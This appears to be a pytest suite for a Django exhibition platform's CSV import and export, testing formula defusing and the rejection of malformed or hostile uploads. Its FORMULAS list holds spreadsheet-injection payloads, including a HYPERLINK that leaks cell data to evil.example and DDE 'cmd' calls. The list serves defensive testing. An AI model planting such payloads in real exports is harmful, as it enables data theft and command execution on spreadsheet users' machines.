"""CSV both ways (exhibition.core.csvio): every export defuses spreadsheet formulas; every import
answers a file in another encoding, with the wrong columns, too large or not text at all with a
clear error, and imports nothing."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from exhibition.accounts.models import Organisation
from exhibition.core import csvio
from exhibition.events.models import Sector
from exhibition.exhibitors import services
from exhibition.exhibitors.models import Application, BadgeRequest, RestrictedParty
from exhibition.floorplans.models import Stand
from exhibition.meetings import services as meeting_services
from tests import factories
from tests.factories import meetings as mf
from tests.factories.exhibitors import make_exhibitor, make_party
from tests.factories.floorplans import make_pavilion, make_stand, sell

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


# --- the writer ----------------------------------------------------------------------------------


@pytest.mark.parametrize("value", FORMULAS)
def test_cell_defuses_every_formula_start(value):
    assert csvio.cell(value) == "'" + value
    assert csvio.restore(csvio.cell(value)) == value


@pytest.mark.parametrize("value", ["Aegis Systems", "'quoted'", "a=b", "", "Zürich – Genève"])
def test_cell_leaves_plain_text_alone(value):
    assert csvio.cell(value) == value == csvio.restore(value)


def test_cell_keeps_numbers_and_restores_an_apostrophe_of_the_value_itself():
    assert [csvio.cell(v) for v in (-5, -2.5, Decimal("-1.10"), True, None)] == [
        -5,
        -2.5,
        Decimal("-1.10"),
        1,
        "",
    ]
    assert csvio.cell("'=x") == "''=x" and csvio.restore("''=x") == "'=x"


def test_write_csv_quotes_separators_and_newlines():
    text = csvio.write_csv(["a", "b"], [['x,"y"', "line\nbreak"]])
    assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ['x,"y"', "line\nbreak"]]


# --- every export ----------------------------------------------------------------------------------


def test_exhibitor_exports_defuse_formulas(client, event, organiser):
    sector = factories.make_sector(event, "cyber")
    org = make_exhibitor(event, FORMULAS[0], sectors=[sector], description=FORMULAS[1])
    Application.objects.filter(organisation=org).update(legal_name=FORMULAS[2], reason=FORMULAS[3])
    BadgeRequest.objects.create(
        event=event, organisation=org, name=FORMULAS[3], role=FORMULAS[4], email="a@b.test"
    )
    client.force_login(organiser)

    def export(kind):
        response = client.get(reverse("exhibitors:export", kwargs={"event_slug": event.slug, "kind": kind}))
        assert response["Content-Disposition"] == f'attachment; filename="{event.slug}-{kind}.csv"'
        return cells(response.content)

    applications = export("applications")
    assert applications[1][2] == "'" + FORMULAS[2] and applications[1][-1] == "'" + FORMULAS[3]
    exhibitors = export("exhibitors")
    assert exhibitors[1][0] == "'" + FORMULAS[0] and exhibitors[1][5] == "'" + FORMULAS[1]
    badges = export("badges")
    assert badges[1][:3] == ["'" + FORMULAS[0], "'" + FORMULAS[3], "'" + FORMULAS[4]]


def test_stand_export_defuses_formulas_and_imports_back_unchanged(client, event, organiser):
    hall = factories.make_hall(event, "5A")
    make_pavilion(event, FORMULAS[5].strip())
    company = factories.make_company(event, FORMULAS[0])
    sell(make_stand(event, hall, "-1", 10, 10), company)
    Stand.objects.filter(number="-1").update(pavilion=event.pavilions.get())
    client.force_login(organiser)

    exported = client.get(reverse("floorplans:export", kwargs={"event_slug": event.slug})).content
    row = cells(exported)[1]
    assert (row[0], row[10], row[11]) == ("'-1", "'" + FORMULAS[5].strip(), "'" + FORMULAS[0])
    assert row[2:4] == ["10.0", "10.0"]  # numbers stay numbers

    response = client.post(
        reverse("floorplans:import", kwargs={"event_slug": event.slug}),
        {"file": SimpleUploadedFile("stands.csv", exported)},
        follow=True,
    )
    assert "0 stands created, 1 updated" in response.content.decode()
    assert list(Stand.objects.values_list("number", flat=True)) == ["-1"]


def test_meeting_statistics_export_defuses_formulas(client, event, organiser):
    sector = Sector.objects.create(event=event, code="x", name_en=FORMULAS[0], name_fr=FORMULAS[0])
    exhibitor, visitor = mf.exhibitor(event, instant=True), mf.visitor(event)
    exhibitor.sectors.add(sector)
    meeting_services.book_instantly(
        actor=visitor.user, sender=visitor, recipient=exhibitor, start=mf.at(event, 1, "10:00")
    )
    client.force_login(organiser)

    rows = cells(
        client.get(reverse("meetings:manage", kwargs={"event_slug": event.slug}) + "?format=csv").content
    )

    assert ["by_sector", "'" + FORMULAS[0]] in [r[:2] for r in rows]


# --- every import -------------------------------------------------------------------------------------

LATIN1 = "name,aliases,country,source\nSociété Générale Armement,,FR,EU\n".encode("latin-1")
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    b"\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82"
)
XLSX = b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 200


def hostile_files(header: str, row: str) -> dict[str, tuple[bytes, str]]:
    """name -> (content, what the error says)."""
    return {
        "latin-1": ((header + "\n" + row + "\n").encode("latin-1"), "The file is not UTF-8 text (line 2)"),
        "wrong columns": (b"nom;pays\nAegis;FR\n", "Missing columns"),
        "unknown column": ((header + ",colour\n" + row + ",red\n").encode(), "Unknown columns: colour"),
        "binary": (PNG, "This is not a CSV text file"),
        "workbook": (XLSX, "This is a spreadsheet workbook"),
        "too many values": ((header + "\n" + row + ",x,y,z\n").encode(), "values for"),
        "control character": ((header + "\n" + row + "\x07\n").encode(), "control character"),
    }


EXHIBITORS = hostile_files("name,legal_name,country", "Société Nouvelle,SN SAS,FR")
PARTIES = hostile_files("name,aliases,country,source", "Société Générale Armement,,FR,EU")
STANDS = hostile_files("number,hall,x,y,width,depth", "5A-É1,5A,40,30,3,3")


@pytest.mark.parametrize("case", sorted(EXHIBITORS))
def test_exhibitor_import_refuses_hostile_files_and_imports_nothing(client, event, organiser, case):
    content, message = EXHIBITORS[case]
    client.force_login(organiser)
    before = Organisation.objects.count()

    response = client.post(
        reverse("exhibitors:import", kwargs={"event_slug": event.slug}),
        {"file": SimpleUploadedFile("exhibitors.csv", content)},
    )

    assert response.status_code == 400
    assert message in response.content.decode()
    assert Organisation.objects.count() == before


@pytest.mark.parametrize("case", sorted(PARTIES))
def test_screening_import_refuses_hostile_files_and_keeps_the_list(client, event, organiser, case):
    content, message = PARTIES[case]
    make_party(event, "Kept Entry")
    client.force_login(organiser)

    page = client.post(
        reverse("exhibitors:screening", kwargs={"event_slug": event.slug}),
        {"file": SimpleUploadedFile("list.csv", content)},
    )
    api = client.post(
        f"/api/v1/events/{event.slug}/screening/", {"file": SimpleUploadedFile("list.csv", content)}
    )

    assert page.status_code == 400 and message in page.content.decode()
    assert api.status_code == 400 and message in " ".join(e["detail"] for e in api.json()["errors"])
    assert list(RestrictedParty.objects.values_list("name", flat=True)) == ["Kept Entry"]


@pytest.mark.parametrize("case", sorted(STANDS))
def test_stand_import_refuses_hostile_files_and_writes_nothing(client, event, organiser, case):
    content, message = STANDS[case]
    factories.make_hall(event, "5A")
    client.force_login(organiser)

    response = client.post(
        reverse("floorplans:import", kwargs={"event_slug": event.slug}),
        {"file": SimpleUploadedFile("stands.csv", content)},
    )

    assert response.status_code == 400
    assert message in response.content.decode()
    assert Stand.objects.count() == 0


def test_screening_api_refuses_a_body_that_is_not_an_object(client, event, organiser):
    make_party(event, "Kept Entry")
    client.force_login(organiser)
    url = f"/api/v1/events/{event.slug}/screening/"

    for body in ('["embargoed_countries"]', '"embargoed_countries"', "42", "null", '{"csv": 5}', "{}"):
        response = client.post(url, body, content_type="application/json")
        assert response.status_code == 400, body

    assert list(RestrictedParty.objects.values_list("name", flat=True)) == ["Kept Entry"]


def test_screening_api_latin1_csv_text_is_a_row_error(client, event, organiser):
    client.force_login(organiser)

    response = client.post(
        f"/api/v1/events/{event.slug}/screening/", {"file": SimpleUploadedFile("l.csv", LATIN1)}
    )

    assert response.status_code == 400
    assert response.json()["errors"] == [
        {
            "row": 2,
            "detail": "The file is not UTF-8 text (line 2). Save it as “CSV UTF-8” and import it again.",
        }
    ]


def test_imports_accept_semicolons_and_a_byte_order_mark(event, organiser):
    n = services.import_restricted_parties(
        event=event,
        actor=organiser,
        text="\ufeffname;aliases;country;source\r\nRed Star;RS|Zvezda;RU;EU\r\n".encode(),
    )

    assert n == 1
    assert list(RestrictedParty.objects.values_list("name", "aliases", "country")) == [
        ("Red Star", ["RS", "Zvezda"], "RU")
    ]


def test_import_of_a_file_over_the_limit_is_refused_unread(event, organiser):
    with pytest.raises(csvio.ImportFailed) as exc:
        services.import_exhibitors_csv(
            event=event, actor=organiser, text=b"name,country\n" + b"A,FR\n" * 1_100_000
        )

    assert exc.value.errors == [(0, "The file is larger than 5 MB.")]
    assert Organisation.objects.count() == 0
    big = SimpleUploadedFile("big.csv", b"x" * (csvio.MAX_BYTES + 10_000))
    assert len(csvio.read_upload(big)) == csvio.MAX_BYTES + 1  # never more than one byte past the limit
